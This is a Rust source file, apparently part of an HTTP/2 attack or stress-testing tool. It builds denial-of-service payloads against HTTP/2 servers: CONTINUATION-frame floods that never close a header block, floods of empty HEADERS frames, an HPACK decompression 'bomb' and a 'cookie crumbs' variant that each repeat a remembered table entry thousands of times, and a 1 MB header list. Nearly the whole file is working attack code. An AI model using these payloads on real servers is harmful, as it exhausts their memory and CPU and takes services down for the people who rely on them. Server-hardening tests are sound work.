//! Header blocks that never end, or that unfold to far more than was sent.

use super::attack::Flood;
use crate::http2::frames::{CONTINUATION, HEADERS, LARGEST, frame, headers, literal, remembered, request};

/// Entry 62 of the table, which is the newest that was remembered (RFC 7541 section 2.3.3).
const NEWEST: u8 = 0x80 | 62;

pub const FLOODS: &[Flood] = &[
    Flood {
        name: "h2 CONTINUATION flood",
        prelude: unfinished,
        ..Flood::of("", |n, out| {
            let mut block = Vec::new();
            literal(&mut block, &format!("x-{n}"), "v");
            frame(out, CONTINUATION, 0, 1, &block);
            1
        })
    },
    Flood {
        name: "h2 empty CONTINUATION flood",
        prelude: unfinished,
        ..Flood::of("", |_, out| {
            frame(out, CONTINUATION, 0, 1, &[]);
            1
        })
    },
    Flood::of("h2 empty HEADERS", |n, out| {
        headers(out, 2 * n + 1, &[], true);
        1
    }),
    Flood {
        name: "h2 HPACK bomb",
        prelude: remember_much,
        ..Flood::of("", |n, out| {
            let mut block = request("GET", "/bomb");
            block.extend([NEWEST; 12_000]);
            headers(out, 2 * n + 3, &block, true);
            1
        })
    },
    Flood::of("h2 header list of 1 MB", |n, out| {
        let mut block = request("GET", "/list");
        let value = "v".repeat(4000);
        for number in 0..256 {
            literal(&mut block, &format!("x-{number}"), &value);
        }
        headers(out, 2 * n + 1, &block, true);
        u32::try_from(block.len().div_ceil(LARGEST)).unwrap_or(u32::MAX)
    }),
    Flood {
        name: "h2 cookie crumbs",
        prelude: remember_a_cookie,
        ..Flood::of("", |n, out| {
            let mut block = request("GET", "/crumbs");
            block.extend([NEWEST; 10_000]);
            headers(out, 2 * n + 3, &block, true);
            1
        })
    },
];

fn unfinished(out: &mut Vec<u8>) {
    frame(out, HEADERS, 0, 1, &request("GET", "/endless"));
}

/// The largest entry that a table of 4,096 bytes takes (RFC 7541 section 4.1), with one request.
fn remember_much(out: &mut Vec<u8>) {
    let mut block = request("GET", "/first");
    remembered(&mut block, "x", &"v".repeat(4000));
    headers(out, 1, &block, true);
}

fn remember_a_cookie(out: &mut Vec<u8>) {
    let mut block = request("GET", "/first");
    remembered(&mut block, "cookie", "a=b");
    headers(out, 1, &block, true);
}
